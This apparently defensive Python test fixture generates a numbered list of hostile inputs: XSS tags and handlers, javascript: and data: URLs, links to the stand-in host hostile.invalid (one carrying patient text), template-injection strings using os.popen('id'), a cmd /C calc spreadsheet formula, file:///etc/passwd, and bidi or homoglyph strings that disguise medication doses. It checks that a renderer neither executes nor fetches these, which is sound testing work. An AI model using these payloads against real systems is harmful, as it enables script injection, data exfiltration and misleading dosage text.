"""Hostile texts: what must be shown as it stands, must not run, and must not make the browser call anybody.

Each carries its number, so that whatever comes through says which one it was: a script sets ``window.hostile`` to it, a
request goes to ``https://hostile.invalid/NUMBER``. They are our own, after the families of the OWASP cheat sheet on
evading filters, the Unicode report on security (UTR 36) and Trojan Source (Boucher and Anderson, 2021).
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain
from typing import Final

HOST: Final = "hostile.invalid"

_TAGS: Final = (
    "img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee", "object", "embed", "math", "form",
    "button", "select", "textarea", "table", "a", "div", "style", "template", "xss",
)  # fmt: skip
_EVENTS: Final = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter",
    "onbeforetoggle",
)  # fmt: skip
_WHOLE: Final = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=https://{host}/{n}></script>",
    "<script\x0c>{run}</script>",
    "</p><script>{run}</script><p>",
    "<<script>{run}//<</script>",
    '"><script>{run}</script>',
    "'-{call}-'",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href='javascript:{call}'><text y=20>press</text></a></svg>",
    "<svg><use href='https://{host}/{n}#x'></use></svg>",
    "<svg><image href='https://{host}/{n}'></image></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}></style></mglyph></table></mtext></math>",
    "<img src=https://{host}/{n}>",
    "<img srcset='https://{host}/{n} 2x'>",
    "<picture><source srcset=https://{host}/{n}><img></picture>",
    "<video poster=https://{host}/{n}></video>",
    "<audio src=https://{host}/{n} autoplay></audio>",
    "<link rel=stylesheet href=https://{host}/{n}>",
    "<link rel=prefetch href=https://{host}/{n}>",
    "<link rel=dns-prefetch href=//{host}>",
    "<style>@import 'https://{host}/{n}';</style>",
    "<style>*{{background:url(https://{host}/{n})}}</style>",
    "<div style='background:url(https://{host}/{n})'>x</div>",
    "<iframe src=https://{host}/{n}></iframe>",
    "<iframe srcdoc='<script>parent.hostile={n}</script>'></iframe>",
    "<iframe src='javascript:parent.hostile={n}'></iframe>",
    "<object data=https://{host}/{n}></object>",
    "<embed src=https://{host}/{n}>",
    "<base href=https://{host}/>",
    "<meta http-equiv=refresh content='0;url=https://{host}/{n}'>",
    "<form action=https://{host}/{n}><button autofocus>Continue</button></form>",
    "<input autofocus onfocus={call}>",
    "<template shadowrootmode=open><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'></noscript>",
    "<a href='javascript:{call}'>the source</a>",
    "<a href='java\tscript:{call}'>the source</a>",
    "<a href='data:text/html,<script>{run}</script>'>the source</a>",
    "<a href=https://{host}/{n} target=_blank>https://www.who.int/</a>",
    "<a ping=https://{host}/{n} href=#>more</a>",
    "[the source](javascript:{call})",
    "[the source](JaVaScRiPt:{call})",
    "[the source](data:text/html;base64,PHNjcmlwdD5ob3N0aWxlPTE8L3NjcmlwdD4=)",
    "[https://www.who.int/](https://{host}/{n})",
    "[the source](//{host}/{n})",
    "[ref]: https://{host}/{n} 'title'",
    "![figure](https://{host}/{n}.png)",
    "![figure][ref{n}]\n\n[ref{n}]: https://{host}/{n}.png",
    "![x](https://{host}/{n}?q=everything that the patient said)",
    "![x](x 'onerror={call}')",
    "<https://{host}/{n}>",
    "https://{host}/{n}",
    "www.{host}/{n}",
    "mailto:a@{host}?subject={n}",
    "javascript:{call}",
    "vbscript:{call}",
    "file:///etc/passwd?{n}",
    "```html\n<script>{run}</script>\n```",
    "```mermaid\ngraph TD; A-->B; click A href 'javascript:{call}'\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror={call}> | ![x](https://{host}/{n}) |",
    "$$\\href{{javascript:{call}}}{{x}}$$",
    "\\url{{https://{host}/{n}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "{{% import os %}}{{{{ os.popen('id') }}}}{n}",
    "{{{{7*7}}}}{n}",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "&#x3c;img src=x onerror={call}&#x3e;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "<img src=x\u2028onerror={call}>",
    '{{"__proto__": {{"hostile": {n}}}}}',
    "constructor.prototype.hostile={n}",
    '=HYPERLINK("https://{host}/{n}","open")',
    "@SUM(1+1)*cmd|' /C calc'!A{n}",
    "\x1b]8;;https://{host}/{n}\x07open\x1b]8;;\x07",
    'data: {{"claims": []}}\n\nevent: answer\ndata: {n}',
    "</mark><script>{run}</script><mark>",
    "</bdi><img src=x onerror={call}><bdi>",
)
# They look like something else, or like nothing.
_DECEIVING: Final = (
    "\u202edosis gm 5 ni{n}\u202c",
    "\u2066if allowed\u2069 \u202ereturn{n}\u202c give 10 mg",
    "\u202a5 mg\u202c \u202b10 mg\u202c {n}",
    "5\u200b0 mg {n}",
    "not\u00a0\u2060allowed{n}",
    "\ufeffdose {n}",
    "d\u043ese 5 mg {n}",
    "50\u2024000 mg {n}",
    "x\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c{n}",
    "\U000e0041\U000e0042 hidden tag {n}",
    "\u2068\u202e{n}\u2069 left to right",
    "\u0627\u0644\u062c\u0631\u0639\u0629 5 mg {n}",
)


def payloads() -> list[str]:
    """Return all of them, each with its number within."""
    return [text.format(**_parts(number)) for number, text in enumerate(chain(_WHOLE, _handlers(), _DECEIVING))]


def _handlers() -> Iterator[str]:
    for number, (tag, event) in enumerate((tag, event) for tag in _TAGS for event in _EVENTS):
        quote = ("", "'", '"', "`")[number % 4]
        gap = (" ", "/", "\t", "\n", " x=1 ")[number % 5]
        yield f"<{tag}{gap}src=x {event}={quote}{{call}}{quote} autofocus tabindex=0>{{n}}</{tag}>"


def _parts(number: int) -> dict[str, object]:
    return {"n": number, "host": HOST, "run": f"window.hostile={number}", "call": f"(hostile={number})"}
